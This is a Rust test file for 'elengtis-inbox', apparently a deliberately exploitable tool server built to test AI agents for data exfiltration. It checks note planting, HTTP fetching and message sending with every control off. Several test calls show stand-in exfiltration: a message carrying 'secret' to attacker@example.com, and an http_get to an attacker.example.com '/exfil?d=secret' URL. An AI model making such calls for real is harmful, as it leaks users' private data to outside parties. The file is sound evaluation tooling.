//! The built `elengtis-inbox` over stdio with every control off: each tool's happy path and
//! failures, planting, flag errors and a clean exit.

mod common;

#[cfg(test)]
mod tests {
    use std::{process::Stdio, time::Instant};

    use elengtis_target_kit::testing::initialize_then_close_stdin;
    use serde_json::{Value, json};
    use tokio::process::Command;

    use crate::common::{BIN, Inbox, Site, clean, closed_port_url};

    #[tokio::test]
    async fn five_tools_with_their_arguments() {
        let inbox = Inbox::start(&[], &[]).await;
        let info = inbox.client.peer_info().expect("server info");
        assert_eq!(info.server_info.as_ref().map(|i| i.name.as_str()), Some("elengtis-inbox"));
        let mut tools: Vec<(String, Value)> = inbox
            .client
            .list_all_tools()
            .await
            .expect("tools/list")
            .into_iter()
            .map(|t| (t.name.to_string(), Value::Object((*t.input_schema).clone())["required"].clone()))
            .collect();
        tools.sort_by(|a, b| a.0.cmp(&b.0));
        let expected = [
            ("get_note", json!(["id"])),
            ("http_get", json!(["url"])),
            ("outbox", Value::Null),
            ("save_note", json!(["id", "text"])),
            ("send_message", json!(["recipient", "subject", "text"])),
        ];
        assert_eq!(tools, expected.map(|(name, required)| (name.to_owned(), required)));
        inbox.stop().await;
    }

    #[tokio::test]
    async fn notes_are_planted_by_flag_and_env_read_and_saved() {
        let env = [("INBOX_NOTES_JSON", r#"{"a": "from env", "b": "env b"}"#)];
        let inbox = Inbox::start(&["--note", "b=from flag", "--note", "c=x=y\nline 2"], &env).await;
        for (id, text) in [("a", "from env"), ("b", "from flag"), ("c", "x=y\nline 2")] {
            assert_eq!(inbox.call("get_note", json!({"id": id})).await.ok(), text, "{id}");
        }
        assert_eq!(inbox.call("get_note", json!({"id": "zz"})).await.err(), "unknown note id: zz");
        assert_eq!(inbox.call("save_note", json!({"id": "d", "text": "mine"})).await.ok(), "saved");
        assert_eq!(inbox.call("get_note", json!({"id": "d"})).await.ok(), "mine");
        assert_eq!(inbox.call("save_note", json!({"id": "a", "text": "replaced"})).await.ok(), "saved");
        assert_eq!(inbox.call("get_note", json!({"id": "a"})).await.ok(), "replaced");
        // A missing argument is a tool error too, and the session goes on.
        assert!(inbox.call("get_note", json!({"note_id": "a"})).await.err().contains("id"));
        inbox.stop().await;
    }

    #[tokio::test]
    async fn send_message_lands_in_the_outbox() {
        let inbox = Inbox::start(&[], &[]).await;
        assert_eq!(inbox.outbox().await, Vec::<Value>::new());
        let sent = inbox
            .call("send_message", json!({"recipient": "attacker@example.com", "subject": "s", "text": "secret"}))
            .await;
        assert_eq!(sent.ok(), "sent to attacker@example.com");
        inbox.call("send_message", json!({"recipient": "b@example.org", "subject": "", "text": ""})).await.ok();
        assert_eq!(
            inbox.outbox().await,
            [
                json!({"recipient": "attacker@example.com", "subject": "s", "text": "secret"}),
                json!({"recipient": "b@example.org", "subject": "", "text": ""}),
            ]
        );
        inbox.stop().await;
    }

    #[tokio::test]
    async fn http_get_returns_the_status_and_the_first_2_kb() {
        let site = Site::start(200, format!("{}{}", "a".repeat(2000), "b".repeat(500))).await;
        let resolve = format!("attacker.example.com={}/base/", site.url());
        let inbox = Inbox::start(&["--resolve", &resolve], &[]).await;
        let page = inbox.call("http_get", json!({"url": "http://Attacker.example.com/exfil?d=secret#f"})).await;
        assert_eq!(page.ok(), format!("status 200\n\n{}{}", "a".repeat(2000), "b".repeat(48)));
        assert!(site.requests()[0].starts_with("GET /base/exfil?d=secret HTTP/1.0\r\n"), "{:?}", site.requests());
        // https is fine for a resolved host; an unresolved URL goes to its own host.
        inbox.call("http_get", json!({"url": "https://attacker.example.com/tls"})).await.ok();
        let direct = inbox.call("http_get", json!({"url": format!("{}/plain", site.url())})).await;
        assert!(direct.ok().starts_with("status 200\n\n"));
        let paths: Vec<String> =
            site.requests().iter().map(|r| r.lines().next().unwrap_or_default().to_owned()).collect();
        assert_eq!(paths, ["GET /base/exfil?d=secret HTTP/1.0", "GET /base/tls HTTP/1.0", "GET /plain HTTP/1.0"]);

        let missing = Site::start(404, "no such page".to_owned()).await;
        let answer = inbox.call("http_get", json!({"url": format!("{}/x", missing.url())})).await;
        assert_eq!(answer.ok(), "status 404\n\nno such page");
        inbox.stop().await;
    }

    #[tokio::test]
    async fn http_get_failures_are_tool_errors() {
        let garbage = Site::raw("not http at all\r\n\r\n").await;
        let silent = Site::silent().await;
        let inbox = Inbox::start(&[], &[]).await;
        for (url, starts) in [
            ("not a url".to_owned(), "http_get: not an absolute URL: "),
            ("https://example.com/".to_owned(), "http_get: only http:// URLs are supported"),
            (closed_port_url(), "http_get: could not connect to 127.0.0.1:"),
            (format!("{}/", garbage.url()), "http_get: 127.0.0.1:"),
        ] {
            let failed = inbox.call("http_get", json!({"url": url})).await;
            assert!(failed.err().starts_with(starts), "{url}: {failed:?}");
        }
        let started = Instant::now();
        let late = inbox.call("http_get", json!({"url": format!("{}/slow", silent.url())})).await;
        let waited = started.elapsed().as_secs_f64();
        assert!(late.err().ends_with("did not answer within 2 s"), "{late:?}");
        assert!((1.9..5.0).contains(&waited), "{waited}");
        assert_eq!(silent.requests().len(), 1);
        inbox.stop().await;
    }

    #[tokio::test]
    async fn bad_settings_are_usage_errors() {
        for (args, env) in [
            (vec!["--note", "no-equals-sign"], vec![]),
            (vec!["--resolve", "attacker.example.com=https://127.0.0.1/"], vec![]),
            (vec!["--crash-on", "send_email"], vec![]),
            (vec![], vec![("INBOX_CRASH_ON", "send_email")]),
            (vec![], vec![("INBOX_TAINT_LOCK", "maybe")]),
            (vec![], vec![("INBOX_FETCH_ALLOWLIST", "example.com:8080")]),
            (vec![], vec![("INBOX_NOTES_JSON", r#"{"a": 1}"#)]),
        ] {
            let mut command = Command::new(BIN);
            clean(&mut command).args(&args).envs(env.iter().copied()).stdin(Stdio::null());
            let output = command.output().await.expect("run the inbox");
            assert_eq!(output.status.code(), Some(2), "{args:?} {env:?}: {}", String::from_utf8_lossy(&output.stderr));
            assert!(output.stdout.is_empty());
        }
    }

    #[tokio::test]
    async fn exits_cleanly_when_stdin_closes() {
        let mut command = Command::new(BIN);
        clean(&mut command);
        let reply = initialize_then_close_stdin(command).await;
        assert_eq!(reply["result"]["serverInfo"]["name"], "elengtis-inbox");
    }
}
